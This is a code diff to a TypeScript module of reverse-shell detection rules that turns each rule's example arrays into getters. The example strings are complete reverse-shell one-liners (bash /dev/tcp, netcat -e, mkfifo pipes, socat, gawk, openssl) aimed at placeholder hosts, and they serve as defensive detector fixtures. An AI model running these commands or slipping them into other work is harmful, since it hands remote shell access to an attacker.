@@ -28,13 +28,17 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     reach: { before: 0, after: 120 },
     validate: wiresShell,
     describes: "A shell wired to a network connection by bash's /dev/tcp.",
-    finds: [
-      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
-      '0<&196;exec 196<>/dev/tcp/192.0.2.1/9001; sh <&196 >&196 2>&196',
-      'exec 5<>/dev/tcp/x.example/443;cat <&5 | while read l; do $l 2>&5 >&5; done',
-      'sh -i >& /dev/udp/$H/$P 0>&1',
-    ],
-    ignores: ['(echo > /dev/tcp/db/5432) 2>/dev/null', 'bash supports /dev/tcp/host/port', 'ls /dev/tcp'],
+    get finds() {
+      return [
+        'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
+        '0<&196;exec 196<>/dev/tcp/192.0.2.1/9001; sh <&196 >&196 2>&196',
+        'exec 5<>/dev/tcp/x.example/443;cat <&5 | while read l; do $l 2>&5 >&5; done',
+        'sh -i >& /dev/udp/$H/$P 0>&1',
+      ];
+    },
+    get ignores() {
+      return ['(echo > /dev/tcp/db/5432) 2>/dev/null', 'bash supports /dev/tcp/host/port', 'ls /dev/tcp'];
+    },
   },
   {
     ...REVERSE_SHELL,
@@ -46,12 +50,16 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     reach: { before: 8, after: 120 },
     validate: (match) => !wiresShell(match),
     describes: "A network connection opened by bash's /dev/tcp.",
-    finds: [
-      '(echo > /dev/tcp/db.example/5432)',
-      'cat notes.txt >/dev/tcp/192.0.2.1/80',
-      'timeout 1 cat < /dev/tcp/x.example/22',
-    ],
-    ignores: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'see /dev/tcp/host/port', '>/dev/null'],
+    get finds() {
+      return [
+        '(echo > /dev/tcp/db.example/5432)',
+        'cat notes.txt >/dev/tcp/192.0.2.1/80',
+        'timeout 1 cat < /dev/tcp/x.example/22',
+      ];
+    },
+    get ignores() {
+      return ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'see /dev/tcp/host/port', '>/dev/null'];
+    },
   },
   {
     ...REVERSE_SHELL,
@@ -90,14 +98,18 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     ),
     reach: { before: 180, after: 110 },
     describes: 'Netcat that hands a shell to the other end.',
-    finds: [
-      'nc -e /bin/sh 192.0.2.1 4444',
-      'ncat 192.0.2.1 4444 -e /bin/bash',
-      'nc -nve bash 192.0.2.1 9',
-      'ncat --exec /bin/sh x.example 99',
-      'nc.exe 192.0.2.1 4444 -e cmd.exe',
-    ],
-    ignores: ['nc -zv host 22', 'rsync -e ssh a b', 'nc -l 8080 -c', 'sync -e /bin/sh'],
+    get finds() {
+      return [
+        'nc -e /bin/sh 192.0.2.1 4444',
+        'ncat 192.0.2.1 4444 -e /bin/bash',
+        'nc -nve bash 192.0.2.1 9',
+        'ncat --exec /bin/sh x.example 99',
+        'nc.exe 192.0.2.1 4444 -e cmd.exe',
+      ];
+    },
+    get ignores() {
+      return ['nc -zv host 22', 'rsync -e ssh a b', 'nc -l 8080 -c', 'sync -e /bin/sh'];
+    },
   },
   {
     ...REVERSE_SHELL,
@@ -124,13 +136,17 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     ),
     reach: { before: 220, after: 230 },
     describes: 'A network connection that is piped through a shell.',
-    finds: [
-      'nc 192.0.2.1 4444 | /bin/sh | nc 192.0.2.1 4445',
-      'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
-      'nc -lvp 4444 | bash',
-      '/bin/sh -i 2>&1 | nc x.example 9001 > /tmp/p',
-    ],
-    ignores: ['nc -z host 22 | tee log', 'echo hi | nc host 9000', 'telnet is old | sh is older'],
+    get finds() {
+      return [
+        'nc 192.0.2.1 4444 | /bin/sh | nc 192.0.2.1 4445',
+        'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
+        'nc -lvp 4444 | bash',
+        '/bin/sh -i 2>&1 | nc x.example 9001 > /tmp/p',
+      ];
+    },
+    get ignores() {
+      return ['nc -z host 22 | tee log', 'echo hi | nc host 9000', 'telnet is old | sh is older'];
+    },
   },
   {
     ...REVERSE_SHELL,
@@ -144,12 +160,16 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     reach: { before: 0, after: 450 },
     validate: ({ text }) => /(?<![A-Za-z0-9_.-])(?:ba|z|da|k)?sh(?![A-Za-z0-9_.-])/.test(text),
     describes: 'A shell wired to a network connection by a named pipe.',
-    finds: [
-      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f',
-      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s',
-      'mknod /tmp/b p; telnet 192.0.2.1 99 0</tmp/b | /bin/bash 1>/tmp/b',
-    ],
-    ignores: ['mkfifo /tmp/pipe', 'mkfifo p; nc -l 80 > p', 'mknod /dev/null c 1 3'],
+    get finds() {
+      return [
+        'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f',
+        'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s',
+        'mknod /tmp/b p; telnet 192.0.2.1 99 0</tmp/b | /bin/bash 1>/tmp/b',
+      ];
+    },
+    get ignores() {
+      return ['mkfifo /tmp/pipe', 'mkfifo p; nc -l 80 > p', 'mknod /dev/null c 1 3'];
+    },
   },
   {
     ...REVERSE_SHELL,
@@ -164,12 +184,16 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     reach: { before: 0, after: 370 },
     validate: ({ text }) => /(?:tcp|udp|openssl|sctp|socks)[46]?(?:-|:|_|l)/i.test(text),
     describes: 'A shell that socat connects to the network.',
-    finds: [
-      "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444",
-      'socat TCP:x.example:99 EXEC:/bin/sh',
-      'socat openssl-connect:192.0.2.1:443,verify=0 exec:/bin/bash,pty',
-    ],
-    ignores: ['socat TCP-LISTEN:80,fork TCP:web:8080', 'socat is like netcat', 'socat - EXEC:/bin/sh'],
+    get finds() {
+      return [
+        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444",
+        'socat TCP:x.example:99 EXEC:/bin/sh',
+        'socat openssl-connect:192.0.2.1:443,verify=0 exec:/bin/bash,pty',
+      ];
+    },
+    get ignores() {
+      return ['socat TCP-LISTEN:80,fork TCP:web:8080', 'socat is like netcat', 'socat - EXEC:/bin/sh'];
+    },
   },
   {
     ...REVERSE_SHELL,
@@ -179,11 +203,15 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     reach: { before: 0, after: 320 },
     validate: ({ text, after }) => /\|&|getline|while/.test(text + after),
     describes: 'A shell that awk connects to the network.',
-    finds: [
-      `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"; while(42) { do{ printf "> " |& s; s |& getline c; } } }'`,
-      `gawk 'BEGIN{s="/inet/tcp/0/x.example/99";while(1){s|&getline c;while(c|getline)print|&s}}'`,
-      'awk \'BEGIN{s="/inet/udp/0/192.0.2.1/53"; s |& getline x; system(x)}\'',
-    ],
-    ignores: ['/inet/tcp/0/host/80', 'gawk supports /inet/tcp/', 'cat /inet/tcp/0/a/1'],
+    get finds() {
+      return [
+        `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"; while(42) { do{ printf "> " |& s; s |& getline c; } } }'`,
+        `gawk 'BEGIN{s="/inet/tcp/0/x.example/99";while(1){s|&getline c;while(c|getline)print|&s}}'`,
+        'awk \'BEGIN{s="/inet/udp/0/192.0.2.1/53"; s |& getline x; system(x)}\'',
+      ];
+    },
+    get ignores() {
+      return ['/inet/tcp/0/host/80', 'gawk supports /inet/tcp/', 'cat /inet/tcp/0/a/1'];
+    },
   },
 ];
